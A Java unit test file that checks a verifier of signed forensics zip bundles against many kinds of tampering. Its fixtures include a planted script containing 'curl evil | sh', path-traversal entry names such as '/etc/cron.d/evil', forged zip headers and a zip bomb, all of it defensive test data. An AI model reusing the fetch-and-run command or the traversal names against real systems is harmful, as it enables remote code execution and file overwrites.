package io.skillbox.core.forensics;

import static io.skillbox.core.forensics.ForensicsFixtures.KEY;
import static io.skillbox.core.forensics.ForensicsFixtures.OTHER_KEY;
import static io.skillbox.core.forensics.ForensicsFixtures.bytes;
import static io.skillbox.core.forensics.ForensicsFixtures.contents;
import static org.assertj.core.api.Assertions.assertThat;

import io.skillbox.core.crypto.Digests;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ForensicsVerifierTest {
    @TempDir
    Path dir;
    Path bundle;
    List<Map.Entry<String, byte[]>> entries;

    @BeforeEach
    void writeBundle() throws IOException {
        bundle = ForensicsWriter.write(dir.resolve("bundle.zip"), contents(), KEY);
        entries = ZipFixtures.read(bundle);
    }

    @Test
    void aChangedByteInAnEntry() throws IOException {
        byte[] stdout = ZipFixtures.get(entries, "stdout.txt").clone();
        stdout[0] ^= 1;
        assertThat(problems(ZipFixtures.replace(entries, "stdout.txt", stdout))).containsExactly(
                "'stdout.txt' does not match its SHA-256 in MANIFEST.json (its content was changed)");
    }

    @Test
    void aChangedSizeOfAnEntry() throws IOException {
        assertThat(problems(ZipFixtures.replace(entries, "work/out/report.txt", bytes("done, and more\n"))))
                .containsExactly("'work/out/report.txt' has 15 bytes; MANIFEST.json says 5");
    }

    @Test
    void anAddedEntry() throws IOException {
        List<Map.Entry<String, byte[]>> more = new ArrayList<>(entries);
        more.add(Map.entry("work/planted.sh", bytes("curl evil | sh\n")));
        assertThat(problems(more)).containsExactly("'work/planted.sh' is in the zip but not listed in MANIFEST.json");
    }

    @Test
    void aRemovedEntry() throws IOException {
        List<Map.Entry<String, byte[]>> fewer = entries.stream().filter(e -> !e.getKey().equals("stderr.txt")).toList();
        assertThat(problems(fewer)).containsExactly("'stderr.txt' is listed in MANIFEST.json but missing from the zip");
    }

    @Test
    void aRenamedEntry() throws IOException {
        List<Map.Entry<String, byte[]>> renamed = entries.stream()
                .map(e -> e.getKey().equals("audit.jsonl") ? Map.entry("audit.json", e.getValue()) : e).toList();
        assertThat(problems(renamed)).containsExactly(
                "'audit.jsonl' is listed in MANIFEST.json but missing from the zip",
                "'audit.json' is in the zip but not listed in MANIFEST.json");
    }

    @Test
    void anEditedManifest() throws IOException {
        String manifest = new String(ZipFixtures.get(entries, "MANIFEST.json"), StandardCharsets.UTF_8);
        byte[] edited = manifest.replace("\"violation\"", "\"requested\"").getBytes(StandardCharsets.UTF_8);
        assertThat(problems(ZipFixtures.replace(entries, "MANIFEST.json", edited))).containsExactly(
                "MANIFEST.sig is not a signature of MANIFEST.json by key " + KEY.keyId()
                        + " (the manifest or the signature was changed)");
    }

    @Test
    void aManifestThatHidesAnEntryEvenWhenReSignedIsCaught() throws IOException {
        // The strongest forger holds a key: they may re-sign, but the expected key is not theirs.
        Path forged = ForensicsWriter.write(dir.resolve("forged.zip"), contents(), OTHER_KEY);
        ForensicsReport trusting = ForensicsVerifier.verify(forged, Optional.empty());
        assertThat(trusting.valid()).as("intact, and says by whom").isTrue();
        assertThat(trusting.keyId()).isEqualTo(OTHER_KEY.keyId());

        ForensicsReport checked = ForensicsVerifier.verify(forged, Optional.of(KEY.publicKey()));
        assertThat(checked.valid()).isFalse();
        assertThat(checked.problems()).containsExactly(
                "signed by key " + OTHER_KEY.keyId() + ", not by the expected key " + KEY.keyId());
    }

    @Test
    void aSignatureByAnotherKey() throws IOException {
        byte[] manifest = ZipFixtures.get(entries, "MANIFEST.json");
        byte[] sig = (Base64.getEncoder().encodeToString(OTHER_KEY.sign(ForensicsManifest.signedMessage(manifest)))
                + "\n").getBytes(StandardCharsets.US_ASCII);
        List<String> problems = problems(ZipFixtures.replace(entries, "MANIFEST.sig", sig));
        assertThat(problems).containsExactly("MANIFEST.sig is not a signature of MANIFEST.json by key " + KEY.keyId()
                + " (the manifest or the signature was changed)");
    }

    @Test
    void aSignatureWithoutTheDomainPrefix() throws IOException {
        byte[] manifest = ZipFixtures.get(entries, "MANIFEST.json");
        byte[] sig = Base64.getEncoder().encode(KEY.sign(manifest));
        assertThat(problems(ZipFixtures.replace(entries, "MANIFEST.sig", sig))).singleElement().asString()
                .startsWith("MANIFEST.sig is not a signature");
    }

    @Test
    void aKeyIdThatDoesNotBelongToThePublicKey() throws IOException {
        String manifest = new String(ZipFixtures.get(entries, "MANIFEST.json"), StandardCharsets.UTF_8)
                .replace(KEY.keyId(), OTHER_KEY.keyId());
        byte[] bytes = manifest.getBytes(StandardCharsets.UTF_8);
        byte[] sig = Base64.getEncoder().encode(KEY.sign(ForensicsManifest.signedMessage(bytes)));
        List<Map.Entry<String, byte[]>> tampered = ZipFixtures.replace(
                ZipFixtures.replace(entries, "MANIFEST.json", bytes), "MANIFEST.sig", sig);
        assertThat(problems(tampered)).containsExactly(
                "MANIFEST.json names keyId " + OTHER_KEY.keyId() + " but its publicKey has id " + KEY.keyId());
    }

    @ParameterizedTest
    @ValueSource(strings = {"../evil", "work/../../evil", "/etc/cron.d/evil", "C:/evil", "work\\..\\..\\evil",
            "work/a\nb", "work//a", "work/./a"})
    void anUnsafeEntryName(String name) throws IOException {
        List<Map.Entry<String, byte[]>> more = new ArrayList<>(entries);
        more.add(Map.entry(name, bytes("x")));
        String printable = EntryNames.printable(name);
        assertThat(problems(more)).hasSize(2)
                .anySatisfy(p -> assertThat(p).startsWith("entry name '" + printable + "' is unsafe: it "))
                .contains("'" + printable + "' is in the zip but not listed in MANIFEST.json");
    }

    @Test
    void aDuplicateEntry() throws IOException {
        List<Map.Entry<String, byte[]>> more = new ArrayList<>(entries);
        more.add(Map.entry("stdout.tx#", bytes("forged output\n")));
        Files.write(bundle, ZipFixtures.patchName(ZipFixtures.bytes(more), "stdout.tx#", "stdout.txt"));
        // The central directory cannot tell two entries of one name apart, so it disagrees too.
        assertThat(ForensicsVerifier.verify(bundle, Optional.of(KEY.publicKey())).problems())
                .contains("entry 'stdout.txt' appears more than once");
    }

    @Test
    void aDuplicateManifest() throws IOException {
        List<Map.Entry<String, byte[]>> more = new ArrayList<>(entries);
        more.add(Map.entry("MANIFEST.jso#", bytes("{}")));
        Files.write(bundle, ZipFixtures.patchName(ZipFixtures.bytes(more), "MANIFEST.jso#", "MANIFEST.json"));
        assertThat(ForensicsVerifier.verify(bundle, Optional.empty()).problems())
                .contains("entry 'MANIFEST.json' appears more than once");
    }

    @Test
    void aZipThatShowsStreamingReadersNothing() throws IOException {
        byte[] original = Files.readAllBytes(bundle);
        byte[] prefixed = new byte[original.length + 16];
        System.arraycopy(original, 0, prefixed, 16, original.length);
        Files.write(bundle, prefixed);
        assertThat(ForensicsVerifier.verify(bundle, Optional.empty()).problems()).singleElement().asString()
                .contains("shows different tools different files");
    }

    @Test
    void aCentralDirectoryPointingAtAForgedHeaderInsideAnEntry() throws IOException {
        // The skill controls a work file's bytes; an attacker who cannot sign points the central
        // directory's stdout.txt at a local header planted inside that file, so unzip shows it.
        byte[] planted = ZipFixtures.localHeader("stdout.txt", bytes("evil!\n"));
        ForensicsContents c = contents(List.of(new SnapshotFile("blob", 0644, planted)));
        Map<String, byte[]> signed = ForensicsWriter.entries(c);
        byte[] manifest = new ForensicsManifest(c.runId(), c.createdAt(), c.reason(), KEY.publicText(), KEY.keyId(),
                signed.entrySet().stream().map(e -> new ForensicsManifest.Entry(e.getKey(), e.getValue().length,
                        Digests.sha256Hex(e.getValue()))).toList()).toJson();
        List<Map.Entry<String, byte[]>> all = new ArrayList<>();
        all.add(Map.entry("MANIFEST.json", manifest));
        all.add(Map.entry("MANIFEST.sig", Base64.getEncoder().encode(KEY.sign(ForensicsManifest.signedMessage(manifest)))));
        all.addAll(signed.entrySet());
        byte[] honest = ZipFixtures.stored(all, Map.of());
        Files.write(bundle, honest);
        assertThat(ForensicsVerifier.verify(bundle, Optional.of(KEY.publicKey())).problems()).as("as written").isEmpty();

        int stdout = all.indexOf(all.stream().filter(e -> e.getKey().equals("stdout.txt")).findFirst().orElseThrow());
        int blobData = new String(honest, StandardCharsets.ISO_8859_1).indexOf(
                new String(planted, StandardCharsets.ISO_8859_1));
        Files.write(bundle, ZipFixtures.stored(all, Map.of(stdout, blobData)));
        try (ZipFile z = new ZipFile(bundle.toFile())) {
            assertThat(z.getInputStream(z.getEntry("stdout.txt")).readAllBytes()).as("what unzip would show")
                    .isEqualTo(bytes("evil!\n"));
        }
        assertThat(ForensicsVerifier.verify(bundle, Optional.of(KEY.publicKey())).problems()).containsExactly(
                "the central directory and the entries read in order differ in names or content"
                        + " (the zip shows different tools different files)");
    }

    @Test
    void notAZipAtAll() throws IOException {
        Files.write(bundle, bytes("just text"));
        ForensicsReport report = ForensicsVerifier.verify(bundle, Optional.empty());
        assertThat(report.valid()).isFalse();
        assertThat(report.problems()).singleElement().asString().startsWith("not a readable zip");
        assertThat(report.runId()).isNull();
    }

    @Test
    void aZipWithoutManifest() throws IOException {
        ZipFixtures.write(bundle, entries.stream().filter(e -> !e.getKey().equals("MANIFEST.json")).toList());
        assertThat(ForensicsVerifier.verify(bundle, Optional.empty()).problems()).containsExactly("the zip has no MANIFEST.json");
    }

    @Test
    void aManifestWithUnknownFields() throws IOException {
        String manifest = new String(ZipFixtures.get(entries, "MANIFEST.json"), StandardCharsets.UTF_8)
                .replaceFirst("\\{", "{\"trusted\":true,");
        assertThat(problems(ZipFixtures.replace(entries, "MANIFEST.json", manifest.getBytes(StandardCharsets.UTF_8))))
                .singleElement().asString().startsWith("MANIFEST.json has fields [");
    }

    @Test
    void aZipBombStopsAtTheCap() throws IOException {
        try (OutputStream file = Files.newOutputStream(bundle); ZipOutputStream out = new ZipOutputStream(file)) {
            out.putNextEntry(new ZipEntry("MANIFEST.json"));
            out.write(ZipFixtures.get(entries, "MANIFEST.json"));
            out.putNextEntry(new ZipEntry("stdout.txt"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 257; i++) {
                out.write(zeros);
            }
            out.closeEntry();
        }
        assertThat(Files.size(bundle)).isLessThan(2 << 20);
        assertThat(ForensicsVerifier.verify(bundle, Optional.empty()).problems()).singleElement().asString()
                .startsWith("more than 268435456 bytes once inflated; stopped reading at stdout.txt");
    }

    @Test
    void tooManyEntriesStopsAtTheCap() throws IOException {
        List<Map.Entry<String, byte[]>> many = new ArrayList<>(entries);
        for (int i = 0; i < ForensicsVerifier.MAX_ENTRIES; i++) {
            many.add(Map.entry("work/f" + i, new byte[0]));
        }
        assertThat(problems(many)).singleElement().asString().startsWith("more than 10000 entries");
    }

    private List<String> problems(List<Map.Entry<String, byte[]>> tampered) throws IOException {
        ZipFixtures.write(bundle, tampered);
        ForensicsReport report = ForensicsVerifier.verify(bundle, Optional.of(KEY.publicKey()));
        assertThat(report.valid()).isEqualTo(report.problems().isEmpty());
        return report.problems();
    }
}
